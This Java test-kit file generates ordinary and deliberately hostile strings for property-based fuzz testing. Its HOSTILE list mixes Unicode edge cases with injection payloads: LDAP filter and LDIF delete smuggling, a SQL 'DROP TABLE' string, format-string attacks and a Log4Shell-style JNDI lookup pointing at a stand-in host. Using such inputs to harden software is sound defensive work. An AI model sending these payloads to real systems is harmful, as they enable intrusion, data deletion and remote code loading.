package dev.writeback.testkit.arbitrary;

import java.util.List;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Tuple;

/** Texts of one character or more. */
final class Texts {

    private static final int LONG = 1 << 20;
    private static final int OFTEN = 200;

    /** The simplest first: texts shrink to those before them. */
    private static final List<String> HOSTILE = List.of(
            // What has a case, or has not, or another one in Turkish.
            "ı",
            "İ",
            "ISTANBUL i̇",
            "ß",
            "ẞ",
            "ſ",
            "\u212a",
            "ﬁ",
            "ǅ",
            "e\u0301",
            "\u00e9",
            // What is not seen, or turns what is.
            " ",
            "\u00a0",
            "\u3000a",
            "a ",
            "\u200b",
            "\ufeffa",
            "\u200f",
            "\u202etxt.exe",
            "\u2066a",
            // What is half of something, or nothing.
            "\0",
            "a\0b",
            "\ud800",
            "a\udc00b",
            "\ud83d\ude00",
            "👩‍👩‍👧‍👦",
            "\r\n",
            "\t\b\f\u001b[31m",
            "\u0085\u2028",
            // What LDAP takes for its own.
            "*",
            "*)(objectClass=*",
            "\\2a\\28",
            "a,DC=corp",
            "a+b=c",
            "#04024869",
            "\"a\"",
            "<GUID=0>",
            "a\\",
            "a\ndn: CN=b\nchangetype: delete",
            // What JSON, SQL, expressions, formats and loggers take for theirs.
            "\"},{\"",
            "\\u0000",
            "'; DROP TABLE object; --",
            "[CustomAttribute1]",
            "\" & [mail] & \"",
            "%s%n%999999999d",
            "{0} {",
            "${jndi:ldap://x.example/a}",
            // What may be a number, or none.
            "-0",
            "+1",
            "٣",
            "1e400",
            "2147483648",
            "9223372036854775808",
            "9".repeat(400),
            // What is long.
            "x".repeat(1_025),
            "ä".repeat(2_049));

    private Texts() {}

    /** Texts in this mood. */
    static Arbitrary<String> of(Mood mood) {
        return mood.of(ordinary(), hostile());
    }

    private static Arbitrary<String> ordinary() {
        return Arbitraries.oneOf(
                Arbitraries.strings()
                        .withCharRange('a', 'z')
                        .withCharRange('A', 'Z')
                        .withCharRange('0', '9')
                        .ofMinLength(1)
                        .ofMaxLength(12),
                Arbitraries.of(
                        "R&D", "Ada Lovelace", "Cost centre 42", "Zürich", "O'Neill", "a-b_c.d", "Å", "2026-11-30"));
    }

    private static Arbitrary<String> hostile() {
        return Arbitraries.frequencyOf(
                Tuple.of(OFTEN, Arbitraries.of(HOSTILE)),
                Tuple.of(OFTEN, Arbitraries.strings().ofMinLength(1).ofMaxLength(40)),
                Tuple.of(
                        1,
                        Arbitraries.of("x", "\ud83d\ude00", "\"", "(").map(part -> part.repeat(LONG / part.length()))));
    }
}
